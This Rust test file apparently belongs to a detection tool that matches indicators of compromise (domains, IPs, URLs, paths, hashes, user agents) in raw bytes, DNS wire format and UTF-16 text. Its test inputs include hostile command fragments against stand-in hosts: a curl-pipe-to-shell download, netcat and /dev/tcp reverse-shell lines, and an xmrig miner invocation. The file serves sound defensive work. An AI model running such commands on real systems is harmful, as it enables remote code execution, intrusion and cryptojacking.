use proptest::prelude::*;

use super::super::index::{About, Builder, Test};
use super::super::value::Value;
use super::super::warninglists::Silencer;
use super::*;

fn words(all: &[(Kind, &str)]) -> Words {
    let mut builder = Builder::default();
    for (kind, text) in all {
        let value = Value::new(*kind, text).unwrap();
        builder.add(About::default(), &[vec![vec![Test::Is(value)]]]).unwrap();
    }
    Words::new(&Arc::new(builder.finish(&Silencer::default())), Scope::Memory)
}

fn found(words: &Words, text: &[u8]) -> Vec<String> {
    let mut all = Vec::new();
    words.find(text, 0..text.len(), &mut |_, range| {
        let start = range.start;
        let (entries, form) = words.resolve(&text[range.clone()]);
        assert!(!entries.is_empty(), "{:?}", text[range].as_bstr());
        for number in entries {
            let entry = words.index.entry(number).unwrap();
            let text = words.index.text_of(entry).as_bstr();
            all.push(match form {
                Form::Plain => format!("{text}@{start}"),
                form => format!("{text}@{start} {form:?}"),
            });
        }
    });
    all
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn domains_are_found_at_labels_only() {
    let words = words(&[(Kind::Domain, "evil.com")]);
    assert_eq!(found(&words, b"GET http://www.EVIL.com/x"), ["evil.com@15"]);
    assert_eq!(found(&words, b"evil.com.\0a"), ["evil.com@0"]);
    assert_eq!(found(&words, b"user@evil.com,"), ["evil.com@5"]);
    assert_eq!(found(&words, b"--host=evil.com"), ["evil.com@7"]);
    for other in [&b"notevil.com"[..], b"evil.com.br", b"evil.comx", b"evil-com", b"my-evil.com"] {
        assert!(found(&words, other).is_empty(), "{:?}", other.as_bstr());
    }
    assert_eq!(found(&words, b"\x03www\x04evil\x03com\0\0\x01"), ["evil.com@4 Wire"]);
    let text = [b"\0\0".to_vec(), wide("x http://a.evil.com/y"), b"\0".to_vec()].concat();
    assert_eq!(found(&words, &text), ["evil.com@24 Utf16"]);
}

#[test]
fn addresses_are_found_in_all_their_forms() {
    let words =
        words(&[(Kind::Address, "203.0.113.7"), (Kind::Address, "2001:db8::7"), (Kind::Network, "198.51.100.0/24")]);
    assert_eq!(found(&words, b"nc 203.0.113.7 4444"), ["203.0.113.7@3"]);
    assert_eq!(found(&words, b"/dev/tcp/203.0.113.7/4444"), ["203.0.113.7@9"]);
    assert_eq!(found(&words, b"[2001:DB8:0::7]:443"), ["2001:db8::7@1"]);
    assert_eq!(found(&words, b"at 198.51.100.99."), ["198.51.100.0/24@3"]);
    for other in [&b"1203.0.113.7"[..], b"203.0.113.77", b"203.0.113.7.5", b"2001:db8::77", b"v203.0.113.7"] {
        assert!(found(&words, other).is_empty(), "{:?}", other.as_bstr());
    }
    let socket = b"\x01\x02\0\x11\x5c\xcb\0\x71\x07\0\0\0\0\0\0\0\0";
    assert_eq!(found(&words, socket), ["203.0.113.7@1 SocketAddress"]);
}

#[test]
fn urls_paths_names_hashes_and_texts_are_found_whole() {
    let hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    let words = words(&[
        (Kind::Url, "http://evil.com/a/b.sh"),
        (Kind::Path, "/tmp/.x/run.sh"),
        (Kind::Path, "/tmp/with blank"),
        (Kind::Name, "xmrig"),
        (Kind::Sha256, hash),
        (Kind::Text, "Mozilla/5.0 (evil)"),
        (Kind::Socket, "@evil-lock"),
    ]);
    assert_eq!(found(&words, b"curl https://evil.com/a/b.sh|sh"), ["http://evil.com/a/b.sh@13"]);
    assert_eq!(found(&words, b"'http://Evil.com/a/b.sh';"), ["http://evil.com/a/b.sh@8"]);
    assert!(found(&words, b"http://evil.com/a/b.sh2").is_empty());
    assert_eq!(found(&words, b"sh /tmp/.x/run.sh;"), ["/tmp/.x/run.sh@3"]);
    assert_eq!(found(&words, b"PATH=/bin:/tmp/.x/run.sh"), ["/tmp/.x/run.sh@10"]);
    assert!(found(&words, b"/var/tmp/.x/run.sh").is_empty());
    assert_eq!(found(&words, b"rm '/tmp/with blank'"), ["/tmp/with blank@4"]);
    assert_eq!(found(&words, b"./xmrig -o"), ["xmrig@2"]);
    assert!(found(&words, b"xmrig-6.21").is_empty() && found(&words, b"noxmrig").is_empty());
    assert_eq!(found(&words, hash.to_ascii_uppercase().as_bytes()), [format!("{hash}@0")]);
    assert_eq!(found(&words, b"User-Agent: Mozilla/5.0 (evil)\r\n"), ["Mozilla/5.0 (evil)@12"]);
    assert_eq!(found(&words, b"\0@evil-lock\0"), ["@evil-lock@1"]);
    assert!(found(&words, b"\0@evil-lock2\0").is_empty() && found(&words, b"'/tmp/with blanks'").is_empty());
}

#[test]
fn texts_with_the_same_longest_word_are_found_by_another() {
    let all: Vec<String> = (0..300).map(|number| format!("Mozilla/5.0 xmozilla agent{number}")).collect();
    let all: Vec<(Kind, &str)> = all.iter().map(|text| (Kind::Text, text.as_str())).collect();
    let words = words(&all);
    assert_eq!(words.left_out, 0);
    for number in [0, 299] {
        let text = format!("User-Agent: Mozilla/5.0 xmozilla agent{number}");
        assert!(!found(&words, text.as_bytes()).is_empty(), "{number}");
    }
}

#[test]
fn domains_with_short_labels_are_found_in_questions_to_dns() {
    let words = words(&[(Kind::Domain, "t.co"), (Kind::Domain, "ab.evil.com")]);
    assert_eq!(found(&words, b"\0\0\x01t\x02co\0\0\x01"), ["t.co@2 Wire"]);
    assert_eq!(found(&words, b"\x03www\x02ab\x04evil\x03com\0"), ["ab.evil.com@4 Wire"]);
    assert!(found(&words, b"\x01t\x03com\0").is_empty());
}

proptest! {
    /// Whatever the slices, all is found once, as if the text were one slice. Only where words run into each other just
    /// where a slice begins, it may be read in another way: less is known there of what stands before it.
    #[test]
    fn slices_do_not_matter(
        parts in proptest::collection::vec("(evil\\.com|www\\.|/tmp/a\\.sh|203\\.0\\.113\\.7|2001:db8::7|[ .a/:-]{1,3}|http://)", 0..30),
        cut in 0..300_usize,
        apart: bool,
    ) {
        let words = words(&[
            (Kind::Domain, "evil.com"), (Kind::Path, "/tmp/a.sh"), (Kind::Address, "203.0.113.7"),
            (Kind::Address, "2001:db8::7"),
            (Kind::Url, "http://evil.com/tmp/a.sh"),
        ]);
        let text = parts.join(if apart { " " } else { "" }).into_bytes();
        let cut = cut.min(text.len());
        let of = |bytes: &[u8], base: usize, span: Range<usize>| {
            let mut all = Vec::new();
            words.find(bytes, span, &mut |_, range| all.push((base + range.start, base + range.end)));
            all
        };
        let mut whole = of(&text, 0, 0..text.len());
        let from = cut.saturating_sub(16);
        let mut both = of(&text, 0, 0..cut);
        both.extend(of(&text[from..], from, cut - from..text.len() - from));
        if !apart {
            both.retain(|(start, _)| !(cut..cut + 64).contains(start));
            whole.retain(|(start, _)| !(cut..cut + 64).contains(start));
        }
        prop_assert_eq!(both, whole);
    }

    #[test]
    fn any_bytes_are_taken(bytes in proptest::collection::vec(any::<u8>(), 0..300), at in 0..300_usize) {
        let words = words(&[(Kind::Domain, "evil.com"), (Kind::Text, "a long text"), (Kind::Network, "0.0.0.0/1")]);
        let at = at.min(bytes.len());
        words.find(&bytes, at..bytes.len(), &mut |_, _| ());
        let _ = words.resolve(&bytes);
    }
}
